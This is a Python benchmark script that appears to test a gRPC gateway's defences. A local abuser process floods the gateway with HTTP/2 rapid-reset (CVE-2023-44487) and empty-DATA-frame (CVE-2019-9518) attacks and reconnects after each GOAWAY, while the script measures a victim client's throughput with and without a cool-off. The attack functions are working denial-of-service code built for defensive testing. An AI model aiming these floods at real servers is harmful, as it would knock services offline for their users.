"""Other clients' throughput while one client abuses the gateway and reconnects after each GOAWAY.

Two attacks, each from its own process on 127.0.0.2:

- ``rapid-reset`` (the issue's): a client opens streams and resets them at once
  (CVE-2023-44487) until the relay's check answers GOAWAY(ENHANCE_YOUR_CALM), then
  reconnects and starts again. Without a cool-off every reconnect costs the gateway
  another round; with it (``--abuse-cool-off``, default 30 s) the abuser's new connections
  are refused at once.
- ``empty-frames`` (CVE-2019-9518): one open stream and empty DATA frames on it at line
  rate, frames that carry nothing to relay but cost a parse each; they count against the
  connection's budget of control frames, so the flood ends in GOAWAY too.

Run: ``.venv/bin/python -m bench.relay_abuse [--seconds 10]``. Prints, per attack and
gateway setting, the victim's completed calls per second (4 concurrent unary calls from
127.0.0.1) with and without the abuser, and the abuser's connections.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import sys
import time
from contextlib import ExitStack

import grpc.aio

from bench.children import ENV, REPO, process
from bench.relay_idle import gateway
from mesh.proxy import frames as f
from mesh.proxy.downstream import PREMATURE_RESETS
from mesh.proxy.hpack_codec import HeaderEncoder
from protos.inference import grpc_service_pb2 as pb
from protos.inference import grpc_service_pb2_grpc as pb_grpc

SETTINGS: dict[str, list[str]] = {
    "cool-off 30 s (default)": [],
    "no cool-off": ["--abuse-cool-off", "0"],
}
ABUSER = "127.0.0.2"


async def victim(address: str, seconds: float, concurrency: int = 4) -> float:
    """Completed unary calls per second."""
    channel = grpc.aio.insecure_channel(address)
    stub = pb_grpc.GRPCInferenceServiceStub(channel)
    await stub.ModelInfer(pb.ModelInferRequest(model_name="warm"), timeout=10)
    done = 0
    stop = time.monotonic() + seconds

    async def loop(i: int) -> None:
        nonlocal done
        while time.monotonic() < stop:
            await stub.ModelInfer(pb.ModelInferRequest(model_name=f"m{i}"), timeout=30)
            done += 1

    await asyncio.gather(*(loop(i) for i in range(concurrency)))
    await channel.close()
    return done / seconds


_REQUEST = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
    (b":authority", b"gateway"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]


async def _rapid_reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    block = HeaderEncoder().encode(_REQUEST)  # a new connection: a fresh HPACK context
    out = [f.PREFACE, f.settings({})]
    for i in range(PREMATURE_RESETS):
        sid = 2 * i + 1
        out.append(f.headers(sid, block, end_stream=False, max_size=f.MIN_MAX_FRAME_SIZE))
        out.append(f.rst_stream(sid, f.CANCEL))
    writer.write(b"".join(out))
    await asyncio.wait_for(reader.read(), timeout=10)  # to GOAWAY and close


async def _empty_frames(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    block = HeaderEncoder().encode(_REQUEST)
    writer.write(
        f.PREFACE
        + f.settings({})
        + f.headers(1, block, end_stream=False, max_size=f.MIN_MAX_FRAME_SIZE)
    )
    burst = f.frame(f.DATA, 0, 1, b"") * 1000
    # Sent as fast as the connection takes them, until the gateway closes it.
    while not reader.at_eof():
        writer.write(burst)
        await writer.drain()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(reader.read(65536), timeout=0.001)


ATTACKS = {"rapid-reset": _rapid_reset, "empty-frames": _empty_frames}


async def abuser(address: str, seconds: float, attack: str = "rapid-reset") -> int:
    """Runs ``attack`` on a connection, reconnecting after each GOAWAY or refusal;
    returns the connections made."""
    host, port = address.rsplit(":", 1)
    connections = 0
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        try:
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ABUSER, 0))
        except OSError:
            continue
        connections += 1
        try:
            await asyncio.wait_for(ATTACKS[attack](reader, writer), stop - time.monotonic())
        except (OSError, TimeoutError):
            pass
        finally:
            writer.close()
    return connections


async def run_one(address: str, seconds: float, attack: str) -> tuple[float, float, int]:
    alone = await victim(address, seconds)
    # The abuser is a process of its own: it must not share the victim's event loop.
    abusing = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bench.relay_abuse",
        "--abuse",
        address,
        "--seconds",
        str(seconds + 1),
        "--attack",
        attack,
        cwd=REPO,
        env=ENV,
        stdout=asyncio.subprocess.PIPE,
    )
    await asyncio.sleep(1)
    attacked = await victim(address, seconds)
    out, _ = await abusing.communicate()
    return alone, attacked, int(out.decode().strip() or 0)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument(
        "--attack", choices=[*ATTACKS, "all"], default="all", help="default: each in turn"
    )
    parser.add_argument("--abuse", metavar="ADDRESS", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.abuse:
        print(asyncio.run(abuser(args.abuse, args.seconds, args.attack)))
        return
    attacks = list(ATTACKS) if args.attack == "all" else [args.attack]
    print(
        f"{'attack':<13} {'gateway':<24} {'alone req/s':>11} {'attacked':>9} {'abuser conns':>12}"
    )
    with ExitStack() as stack:
        worker = stack.enter_context(process("bench.workers", "echo"))
        for attack in attacks:
            for name, extra in SETTINGS.items():
                with gateway(worker, extra) as (address, _):
                    alone, attacked, conns = asyncio.run(run_one(address, args.seconds, attack))
                print(
                    f"{attack:<13} {name:<24} {alone:>11.0f} {attacked:>9.0f} {conns:>12}",
                    flush=True,
                )


if __name__ == "__main__":
    main()
